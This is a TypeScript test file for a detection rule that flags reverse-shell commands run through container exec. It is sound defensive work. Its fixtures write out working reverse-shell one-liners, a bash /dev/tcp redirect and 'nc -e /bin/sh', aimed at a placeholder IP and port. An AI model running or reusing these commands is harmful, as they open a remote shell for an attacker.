import { strict as assert } from 'node:assert';
import { execReverseShell } from '../../../../shared/detection/rules/exec-reverse-shell.ts';
import { firedBy } from '../../../fixtures/signals.ts';
import { execOfCart, ruleCases } from '../cases.ts';

const BASE = execOfCart('bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1');
const UNCERTAIN = { severity: 'medium', confidence: 0.45, conclusive: false } as const;

describe('rule exec-reverse-shell', () => {
  ruleCases(execReverseShell, BASE, {
    fires: [
      ['by the shell itself', {}],
      ['over WebSocket', { verb: 'get' }],
      ['netcat', { command: 'nc -e /bin/sh 203.0.113.9 4444' }],
      ['a probe of another host, which may be all there is to it', { command: 'bash -c </dev/tcp/db/5432' }, UNCERTAIN],
      ['refused, when it ran nowhere', { code: 7 }, { severity: 'medium', confidence: 0.8, conclusive: false }],
      ['failed', { code: 13 }, { severity: 'medium', confidence: 0.8, conclusive: false }],
    ],
    misses: [
      ['an interactive shell', { command: 'bash -i' }],
      ['a health check of this host', { command: 'bash -c </dev/tcp/127.0.0.1/4444' }],
      ['no command', { command: undefined }],
      ['a port check', { command: 'nc -z 203.0.113.9 4444' }],
      ['no exec', { subresource: 'attach' }],
    ],
  });

  it('quotes a limited piece of the command', () => {
    const { because } = firedBy(execReverseShell, { ...BASE, command: `${BASE.command} ${'x'.repeat(5000)}` });
    assert.ok(because.every((sentence) => sentence.length < 700));
    assert.match(because.join(), /the command is "bash -c/);
  });
});
